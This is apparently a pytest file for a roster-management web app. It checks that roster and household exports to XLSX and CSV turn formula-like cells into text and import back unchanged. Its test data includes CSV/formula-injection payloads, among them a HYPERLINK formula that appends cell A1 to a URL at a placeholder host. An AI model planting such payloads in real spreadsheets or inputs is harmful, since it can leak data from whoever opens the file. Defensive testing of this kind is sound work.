"""Roster and household exports write formulas as text, and read back unchanged."""

import csv
import io

import pytest
from openpyxl import load_workbook

from fieldkit.testing import BAO_HA

FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', "+84912345678", "-1+1", "@SUM(1,2)"]


def _cells(data, extension):
    """Every text cell of an exported file, as a spreadsheet program would take it."""
    if extension == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a cell is a formula"
    return [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


@pytest.fixture
def admin(client, auth):
    auth.login("admin")
    return client


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_roster_export_neutralises_formulas_and_imports_back_unchanged(admin, create_group, extension):
    create_group(FORMULAS[0], head_name=FORMULAS[3], notes=FORMULAS[2], cultural_house_address=FORMULAS[1])
    response = admin.get(f"/rosters/export?commune={BAO_HA}&format={extension}")
    cells = _cells(response.data, extension)
    for formula in FORMULAS:
        assert formula not in cells
        assert "'" + formula in cells
    again = admin.post(
        f"/rosters/import?commune={BAO_HA}",
        data={"file": (io.BytesIO(response.data), f"roster.{extension}")},
        content_type="multipart/form-data",
    )
    page = again.get_data(as_text=True)
    assert "<strong>0</strong> thêm mới" in page and "<strong>1</strong> giữ nguyên" in page, page[:3000]


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_household_export_neutralises_formulas(app, admin, create_group, extension):
    group = create_group("Thôn Bảo Vinh")
    text = io.StringIO()
    csv.writer(text).writerows([["STT", "Họ tên chủ hộ", "Địa chỉ", "Ghi chú"], [1, "Lò Văn A", *FORMULAS[1::-1]]])
    upload = admin.post(
        f"/rosters/groups/{group['uuid']}/households",
        data={"file": (io.BytesIO(text.getvalue().encode()), "ho.csv")},
        content_type="multipart/form-data",
    )
    assert upload.status_code == 302, upload.get_data(as_text=True)[:2000]
    response = admin.get(f"/rosters/groups/{group['uuid']}/households/export?format={extension}")
    cells = _cells(response.data, extension)
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert FORMULAS[0] not in cells and FORMULAS[1] not in cells
